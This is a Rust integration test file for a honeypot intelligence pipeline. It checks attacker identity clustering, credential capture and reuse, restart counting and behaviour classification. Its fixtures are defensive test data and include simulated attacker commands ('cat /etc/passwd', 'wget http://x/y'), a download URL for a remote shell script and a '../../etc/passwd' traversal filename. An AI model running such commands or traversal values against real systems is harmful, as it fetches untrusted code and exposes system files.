//! Intel through the real pipeline: bus → ingester + intel → store.
#![allow(clippy::unwrap_used)]

mod common;

use std::collections::{BTreeMap, BTreeSet};

use common::*;
use decnet_core::EventKind;
use decnet_store::testing::PgCluster;
use decnet_store::{AttackerQuery, BountyQuery, CredentialQuery};

fn sqlite_url(dir: &tempfile::TempDir, name: &str) -> String {
    format!("sqlite://{}/{name}.db", dir.path().display())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn synthetic_population_identity_precision_and_recall() {
    let dir = tempfile::tempdir().unwrap();
    let pop = population(7, 24, 60);
    let p = Pipeline::start(&sqlite_url(&dir, "pop")).await;
    p.publish(&pop.events);
    let (store, bus_events) = p.finish().await;
    assert_eq!(store.count_events().await.unwrap(), pop.events.len() as u64);
    let ids = store.list_identities(false, 1000, 0).await.unwrap();
    let mut predicted = BTreeMap::new();
    for i in &ids.data {
        for m in &i.members {
            predicted.insert(m.clone(), i.id.to_string());
        }
    }
    let (precision, recall, tp, fp, fn_) = pair_scores(&pop.sources, &predicted);
    println!(
        "identity clustering: {} sources ({} actors + noise), {} identities; pairs tp={tp} fp={fp} fn={fn_}; precision={precision:.3} recall={recall:.3}",
        pop.sources.len(),
        24,
        ids.total
    );
    // Precision: noise shares only stock fingerprints (common → not evidence)
    // and wordlist credentials / commands (max 0.8 < 1.0), so no false link
    // is expected at all; 0.95 leaves room for an unlucky collision.
    assert!(precision >= 0.95, "precision {precision:.3}");
    // Recall: by construction one address in three of every fourth actor
    // uses a stock client and carries no distinctive signal; DESIGN §9
    // cannot (and must not) link it. That caps recall near 0.9.
    assert!(recall >= 0.80, "recall {recall:.3}");
    // The identity stream saw every identity form, and attacker rows point at them.
    let formed = bus_events
        .iter()
        .filter(|(t, _)| t == "identity.formed")
        .count();
    assert!(
        formed >= ids.data.len(),
        "formed={formed} identities={}",
        ids.data.len()
    );
    assert!(
        bus_events
            .iter()
            .any(|(t, _)| t == "identity.observation.linked")
            || formed > 0
    );
    let stored_events = store.identity_events(10_000).await.unwrap();
    assert_eq!(stored_events.len(), bus_events.len());
    let member = &ids.data[0].members[0];
    assert_eq!(
        store
            .get_attacker(member)
            .await
            .unwrap()
            .unwrap()
            .identity_id,
        Some(ids.data[0].id)
    );
    let listed = store
        .list_attackers(&AttackerQuery {
            identity_id: Some(ids.data[0].id),
            limit: 100,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(listed.total as usize, ids.data[0].members.len());
    // Loaders share payload + C2 across actors? No: each actor has its own, so
    // campaigns, if any, come from shared targets; every campaign groups ≥ 2.
    for c in store.list_campaigns(100, 0).await.unwrap().data {
        assert!(c.identities.len() >= 2);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fingerprint_fields_as_services_emit_them_form_an_identity() {
    // DECNET's clusterer never saw fingerprints in the shape it expected.
    // Here: the exact fields the SSH service puts on auth events.
    let dir = tempfile::tempdir().unwrap();
    let p = Pipeline::start(&sqlite_url(&dir, "fp")).await;
    let mut evs = Vec::new();
    for (i, ip) in ["127.11.0.1", "127.11.0.2", "127.11.0.3"]
        .iter()
        .enumerate()
    {
        evs.push(
            auth(i as i64 * 1000, ip, "web01", "ssh", "root", "toor")
                .with("client_version", "SSH-2.0-Rare_1.0")
                .with("hassh", "aaaabbbbccccddddeeeeffff00001111"),
        );
    }
    evs.push(
        ev(10, "127.11.0.9", "web01", "https", EventKind::Request, 443)
            .with("ja3", "j1")
            .with("ja4", "t13d_x"),
    );
    evs.push(ev(20, "127.11.0.8", "web01", "https", EventKind::Request, 443).with("ja3", "j1"));
    p.publish(&evs);
    let (store, bus) = p.finish().await;
    let ids = store.list_identities(false, 10, 0).await.unwrap();
    let groups: BTreeSet<Vec<String>> = ids.data.iter().map(|i| i.members.clone()).collect();
    assert!(
        groups.contains(&vec![
            "127.11.0.1".into(),
            "127.11.0.2".into(),
            "127.11.0.3".into()
        ]),
        "{groups:?}"
    );
    assert!(
        groups.contains(&vec!["127.11.0.8".into(), "127.11.0.9".into()]),
        "{groups:?}"
    );
    let ssh = ids.data.iter().find(|i| i.members.len() == 3).unwrap();
    assert!(ssh.links.iter().all(|l| l.score >= 1.0));
    // Each link names the rare value with its weight and holder count.
    assert!(
        ssh.links.iter().any(|l| l.reasons.iter().any(|r| {
            r.starts_with("hassh:aaaabbbb") && r.ends_with("(weight 1.00, 3 sources)")
        })),
        "{:?}",
        ssh.links
    );
    assert!(bus
        .iter()
        .any(|(t, v)| t == "identity.formed"
            && v["members"].as_array().is_some_and(|m| m.len() >= 2)));
    let a = store.get_attacker("127.11.0.1").await.unwrap().unwrap();
    assert!(a
        .fingerprints
        .contains(&"ssh_banner:SSH-2.0-Rare_1.0".to_string()));
}

async fn restart_scenario(url: &str) {
    let evs1: Vec<_> = (0..50)
        .map(|i| {
            auth(
                i * 1000,
                "127.12.0.1",
                "web01",
                "ssh",
                "root",
                &format!("pw{}", i % 5),
            )
        })
        .collect();
    let evs2: Vec<_> = (50..80)
        .map(|i| {
            auth(
                i * 1000,
                "127.12.0.1",
                "db01",
                "ssh",
                "root",
                &format!("pw{}", i % 5),
            )
        })
        .collect();
    let p = Pipeline::start(url).await;
    p.publish(&evs1);
    let (store, _) = p.finish().await;
    let a1 = store.get_attacker("127.12.0.1").await.unwrap().unwrap();
    assert_eq!(a1.event_count, 50);
    assert_eq!(a1.credentials_tried, 50);
    drop(store);
    // Restart: replay part of the old stream (at-least-once) plus new events.
    let p = Pipeline::start(url).await;
    p.publish(&evs1[30..]);
    p.publish(&evs2);
    p.publish(&evs2[..10]);
    let (store, _) = p.finish().await;
    let a2 = store.get_attacker("127.12.0.1").await.unwrap().unwrap();
    assert_eq!(
        a2.event_count, 80,
        "counts continue after a restart, replays ignored"
    );
    assert_eq!(a2.credentials_tried, 80);
    assert_eq!(a2.deckies.get("web01"), Some(&50));
    assert_eq!(a2.deckies.get("db01"), Some(&30));
    assert_eq!(a2.first_seen, evs1[0].ts);
    assert_eq!(a2.last_seen, evs2.last().unwrap().ts);
    assert_eq!(a2.behavior, "brute_force", "{}", a2.behavior_rule);
    let creds = store
        .list_credentials(&CredentialQuery {
            ip: Some("127.12.0.1".into()),
            limit: 100,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(creds.total, 10, "5 passwords × 2 deckies");
    assert_eq!(creds.data.iter().map(|c| c.count).sum::<u64>(), 80);
    assert_eq!(store.count_events().await.unwrap(), 80);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restart_continues_counts_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    restart_scenario(&sqlite_url(&dir, "restart")).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restart_continues_counts_postgres() {
    let Some(pg) = PgCluster::start() else { return };
    restart_scenario(&pg.fresh_database().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ftp_credentials_keep_the_attacker_ip_and_reuse_is_found() {
    // DECNET stored FTP credentials under IP "Unknown".
    let dir = tempfile::tempdir().unwrap();
    let p = Pipeline::start(&sqlite_url(&dir, "ftp")).await;
    let mut legacy = auth(5, "0.0.0.0", "files01", "ftp", "anonymous", "guest@");
    legacy
        .fields
        .insert("remote_addr".into(), "127.13.0.7".into());
    let evs = vec![
        auth(0, "127.13.0.1", "files01", "ftp", "admin", "hunter2"),
        auth(1, "127.13.0.2", "web01", "ssh", "root", "hunter2"),
        auth(2, "127.13.0.2", "web01", "ssh", "root", "hunter2"),
        legacy,
        ev(3, "127.13.0.2", "web01", "ssh", EventKind::FileDownload, 22)
            .with("url", "http://203.0.113.5/x.sh"),
        ev(4, "127.13.0.2", "web01", "ssh", EventKind::FileUpload, 22)
            .with("sha256", "ab".repeat(32))
            .with("size", 10)
            .with("filename", "../../etc/passwd"),
    ];
    p.publish(&evs);
    let (store, _) = p.finish().await;
    let ftp = store
        .list_credentials(&CredentialQuery {
            service: Some("ftp".into()),
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    let ips: BTreeSet<&str> = ftp.data.iter().map(|c| c.ip.as_str()).collect();
    assert_eq!(ips, BTreeSet::from(["127.13.0.1", "127.13.0.7"]));
    let c = ftp.data.iter().find(|c| c.ip == "127.13.0.1").unwrap();
    assert_eq!(
        (
            c.principal.as_str(),
            c.secret_printable.as_str(),
            c.secret_kind.as_str()
        ),
        ("admin", "hunter2", "password")
    );
    assert_eq!(c.secret_hash, decnet_intel::profile::sha256_hex(b"hunter2"));
    let reuse = store.credential_reuse(10, 0).await.unwrap();
    assert_eq!(reuse.total, 1);
    let r = &reuse.data[0];
    assert_eq!(
        (
            r.secret_printable.as_str(),
            r.ips,
            r.deckies,
            r.services,
            r.attempts
        ),
        ("hunter2", 2, 2, 2, 3)
    );
    let bounty = store
        .list_bounty(&BountyQuery {
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(bounty.total, 2);
    let file = bounty.data.iter().find(|b| b.kind == "file").unwrap();
    assert_eq!(file.value, "ab".repeat(32));
    assert_eq!(file.details["filename"], "../../etc/passwd");
    assert!(bounty
        .data
        .iter()
        .any(|b| b.kind == "url" && b.value == "http://203.0.113.5/x.sh"));
    assert!(store.get_attacker("Unknown").await.unwrap().is_none());
    assert!(store.get_attacker("127.13.0.7").await.unwrap().is_some());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behaviour_classes_with_rule_and_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let p = Pipeline::start(&sqlite_url(&dir, "beh")).await;
    let mut evs = Vec::new();
    // A connection closed without a word, as a connect scan leaves it.
    let quiet = |ms: i64, ip: &str, port: u16| {
        let sid = uuid::Uuid::now_v7();
        [EventKind::Connect, EventKind::Disconnect].map(|k| {
            let mut e = ev(ms, ip, "web01", "scan", k, port);
            e.session_id = Some(sid);
            e
        })
    };
    // scanning: 20 ports in 2 s.
    for i in 0..20 {
        evs.extend(quiet(i * 100, "127.14.0.1", 20 + i as u16));
    }
    // slow_scan: 8 ports, one every 5 minutes.
    for i in 0..8 {
        evs.extend(quiet(i * 300_000, "127.14.0.2", 100 + i as u16));
    }
    // brute_force: 30 passwords.
    for i in 0..30 {
        evs.push(auth(
            i * 700,
            "127.14.0.3",
            "web01",
            "ssh",
            "root",
            &format!("p{i}"),
        ));
    }
    // beaconing: a connect every 60 s ± 1 s.
    for i in 0..10 {
        evs.push(ev(
            i * 60_000 + (i % 2) * 1000,
            "127.14.0.4",
            "web01",
            "http",
            EventKind::Connect,
            80,
        ));
    }
    // interactive: a login and a few commands.
    evs.push(auth(0, "127.14.0.5", "web01", "ssh", "root", "root"));
    for (i, c) in ["id", "uname -a", "cat /etc/passwd", "wget http://x/y"]
        .iter()
        .enumerate()
    {
        evs.push(
            ev(
                1000 + i as i64 * 3000,
                "127.14.0.5",
                "web01",
                "ssh",
                EventKind::Command,
                22,
            )
            .with("command", *c),
        );
    }
    // mixed: brute force then commands.
    for i in 0..12 {
        evs.push(auth(
            i * 500,
            "127.14.0.6",
            "web01",
            "ssh",
            "admin",
            &format!("x{i}"),
        ));
    }
    for c in ["id", "w", "ps"] {
        evs.push(ev(9000, "127.14.0.6", "web01", "ssh", EventKind::Command, 22).with("command", c));
    }
    // unknown: one connection, still open (it may yet carry data).
    evs.push(ev(0, "127.14.0.7", "web01", "http", EventKind::Connect, 80));
    p.publish(&evs);
    let (store, _) = p.finish().await;
    let expect = [
        ("127.14.0.1", "scanning"),
        ("127.14.0.2", "slow_scan"),
        ("127.14.0.3", "brute_force"),
        ("127.14.0.4", "beaconing"),
        ("127.14.0.5", "interactive"),
        ("127.14.0.6", "mixed"),
        ("127.14.0.7", "unknown"),
    ];
    for (ip, class) in expect {
        let a = store.get_attacker(ip).await.unwrap().unwrap();
        assert_eq!(
            a.behavior, class,
            "{ip}: rule {} numbers {}",
            a.behavior_rule, a.behavior_numbers
        );
        assert!(!a.behavior_rule.is_empty());
        assert!(a.behavior_numbers["events"].as_u64().unwrap() >= 1);
    }
    let b = store.get_attacker("127.14.0.3").await.unwrap().unwrap();
    assert!(
        b.behavior_rule.contains("auth_attempts=30"),
        "{}",
        b.behavior_rule
    );
    let page = store
        .list_attackers(&AttackerQuery {
            behavior: Some("scanning".into()),
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(page.total, 1);
    let all = store
        .list_attackers(&AttackerQuery {
            limit: 3,
            offset: 3,
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!((all.total, all.data.len()), (7, 3));
}
